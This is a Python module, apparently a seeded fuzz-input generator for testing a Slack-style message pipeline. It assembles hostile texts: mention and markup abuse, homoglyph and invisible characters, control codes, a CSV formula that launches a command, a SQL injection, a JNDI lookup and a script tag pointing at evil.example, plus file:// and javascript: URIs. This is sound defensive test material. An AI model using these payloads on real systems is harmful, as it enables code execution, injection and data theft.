# ruff: noqa: RUF001 (Letters that look like others are part of what is tried.)
"""Texts that somebody might write to ping, to forge a link, to run something or to break a page.

Everything is drawn from a grammar by a seed: the same seed gives the same texts.
"""

import re
from random import Random

MARK = "qzxmark"
"""Stands in every text, so that a log that quotes one is found out."""
UNKNOWN = ("C0HOSTILE", "U0HOSTILE", "S0HOSTILE")
"""Ids that no channel, person or group has: what mentions one was written by somebody."""

CROWDS = ("channel", "here", "everyone")
OVERRIDES = ("\u202e", "\u202d", "\u2066", "\u2067", "\u200f", "\u061c")
UNSEEN = ("\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\U000e0041", "\u3164")
CONTROLS = (
    "\x1b[31m",
    "\x1b]0;owned\x07",
    "\x1b[2J",
    "\x9b5n",
    "\x08\x08",
    "\x00",
    "\x7f",
    "\r",
    "\x0c",
    "\x85",
    "\u2028",
)
LOOK_ALIKE = str.maketrans(
    {"a": "а", "e": "е", "o": "о", "c": "с", "h": "һ", "@": "＠", "<": "＜", ">": "＞", "#": "＃"}
)
SCHEMES = ("https://", "http://", "HTTP://", "ftp://", "slack://", "//", "")
HOSTS = (
    "evil.example",
    "www.evil.example",
    "hooks.slack.com.evil.example",
    "sandbox.slack.com@evil.example",
    "192.0.2.7",
    "[2001:db8::1]:8080",
    "0x7f.1",
    "еvil.example",
    "xn--vil-kdd.example",
    "evil.com",
    "localhost:3000",
)
ENDINGS = (
    "",
    "/",
    "/a?b=1&c=2",
    "/?q=<!here>",
    "/x|Sign in",
    "/%3C!channel%3E",
    "/*_~`",
    "/(a)",
    "/#general",
    "/#:~:text=@here",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    '=HYPERLINK("http://evil.example","ok")',
    "\t=1",
    "＝1+1",
    "'=1",
)
BAIT = (
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:x",
    "mailto:boss@evil.example",
    "boss@evil.example",
    "tel:+1555000111",
    "file:///etc/passwd",
    "evil.com",
    "evil.io/pay",
)
PLAIN = (
    "Freeze the plan on Friday.",
    "orders",
    "a parcel",
    "we",
    "it",
    "late",
    "because nobody looked",
    "then",
    "ציוד",
    "تجربة",
    "学び",
)


def texts(seed: int, many: int) -> list[str]:
    """Draw so many texts, each with MARK and a number of its own in it."""
    rng = Random(f"texts {seed}")
    return [text(rng, f"{MARK}{seed}n{number}") for number in range(many)]


def text(rng: Random, mark: str = MARK) -> str:
    pieces = [piece(rng) for _ in range(rng.choice((1, 2, 3, 5, 8, 13)))]
    # Half of them begin as they will: a formula or a list only acts at a beginning.
    pieces.insert(rng.choice((0, 1, len(pieces))), f" {mark} ")
    whole = "".join(one + rng.choice((" ", "", "\n", " ", ", ", "\n\n")) for one in pieces)
    if rng.random() < 0.05:
        whole += rng.choice(("<!channel> ", "@here ", "w" * 80, "&", "🎉", "<")) * rng.randrange(30, 300)
    return whole


def piece(rng: Random) -> str:
    make = rng.choice(
        (
            mention,
            mention,
            markup,
            link,
            bare,
            entity,
            formatting,
            layout,
            unseen,
            look_alike,
            bait,
            formula,
            data,
            control,
            plain,
        )
    )
    return make(rng)


def mention(rng: Random) -> str:
    name = rng.choice((*CROWDS, "general", "orders", "-here", "ana", "U0ANA", "everyone."))
    return rng.choice(
        ("@{}", "#{}", "<!{}>", "<!{}|x>", "(@{})", "_@{}_", "*#{}*", "＠{}", "@ {}", "@\u200b{}", "x@{}", "<@{}>")
    ).format(name)


def markup(rng: Random) -> str:
    return rng.choice(
        (
            "<@U0ANA>",
            "<@U0HOSTILE|Ana Lima>",
            "<@W0HOSTILE>",
            "<#C0HOSTILE>",
            "<#C0VAULT|general>",
            "<!subteam^S0HOSTILE>",
            "<!subteam^S0HOSTILE|@all>",
            "<!date^1392734382^{date}^https://evil.example/|then>",
            "<!date^1392734382^{date_num}|<!channel>>",
            "<!everyone>",
            "<!here|here>",
            "<",
            ">",
            "<<!channel>>",
            "< !channel >",
            "<!channel",
            "<\n!channel>",
        )
    )


def address(rng: Random) -> str:
    """Draw what may or may not be an address on the web."""
    return rng.choice(SCHEMES) + rng.choice(HOSTS) + rng.choice(ENDINGS)


def link(rng: Random) -> str:
    to, label = (
        address(rng),
        rng.choice(("Open the conversation", "https://good.example", "a|b", "", "Read it all", "<!here>")),
    )
    return rng.choice(
        ("<{0}|{1}>", "<{0}>", "[{1}]({0})", "[{1}](<{0}>)", "[{1}]: {0}", "![{1}]({0})", '<a href="{0}">{1}</a>')
    ).format(to, label)


def bare(rng: Random) -> str:
    return address(rng) + rng.choice(("", ".", "?" + "a" * 600, ")", ">", "|x"))


def bait(rng: Random) -> str:
    return rng.choice(BAIT)


def entity(rng: Random) -> str:
    inner = rng.choice(
        (
            "&lt;!channel&gt;",
            "&lt;http://evil.example|ok&gt;",
            "&#60;!here&#62;",
            "&lt;@U0ANA&gt;",
            "&commat;here",
            "&num;general",
            "&amp;",
        )
    )
    return inner.replace("&", "&amp;" * rng.randrange(1, 3)) if rng.random() < 0.4 else inner


def formatting(rng: Random) -> str:
    return rng.choice(
        (
            "*",
            "_",
            "~",
            "`",
            "```",
            "*_~",
            "```\n<!channel>\n",
            "`<!here>`",
            "*bold",
            "_@here_",
            "***",
            "> ",
            ">>> ",
            "\\",
        )
    )


def layout(rng: Random) -> str:
    return rng.choice(
        (
            "\n> quoted",
            "\n• one\n• two",
            "\n1. one",
            "\n- x",
            "\n# Title",
            "\n---\n",
            "\n\n\n",
            "\r\n",
            "\t",
            "| a | b |",
            ":tada:",
            ":here:",
            "🫠👩‍👩‍👧‍👦",
            "A\u0300" * 9,
        )
    )


def unseen(rng: Random) -> str:
    return rng.choice(
        (
            rng.choice(UNSEEN),
            rng.choice(OVERRIDES) + "elpmaxe.dog",
            "@" + rng.choice(UNSEEN) + "here",
            "<" + rng.choice(UNSEEN) + "!channel>",
        )
    )


def look_alike(rng: Random) -> str:
    return rng.choice(("<!channel>", "@here", "#general", "<http://evil.example|ok>", "evil.example")).translate(
        LOOK_ALIKE
    )


def formula(rng: Random) -> str:
    return rng.choice(FORMULAS)


def data(rng: Random) -> str:
    return rng.choice(
        (
            '{"type":"section","text":{"type":"mrkdwn","text":"<!channel>"}}',
            '","verbatim":false,"x":"',
            "[]",
            "null",
            '"',
            "'; DROP TABLE learnings;--",
            "%s%n{0}{{x}}",
            "${jndi:ldap://evil.example}",
            "*hits* OR NOT",
            '<script src="//evil.example"></script>',
        )
    )


def control(rng: Random) -> str:
    return rng.choice(CONTROLS)


def plain(rng: Random) -> str:
    return rng.choice(PLAIN)


def short(rng: Random, most: int) -> str:
    """Draw a text of one line that fits where little room is."""
    drawn = re.sub(r"[\s\x00]+", " ", " ".join(piece(rng) for _ in range(3))).strip()
    return drawn[:most].strip() or "x"


def evidence(rng: Random) -> str:
    """Draw an address that a form takes, with something hostile in it."""
    host = rng.choice([one for one in HOSTS if "[" not in one])
    hidden = rng.choice((*OVERRIDES, *UNSEEN)) if rng.random() < 0.1 else ""
    return f"{rng.choice(('https://', 'http://'))}{host}{rng.choice(ENDINGS)}{hidden}".replace(" ", "%20")
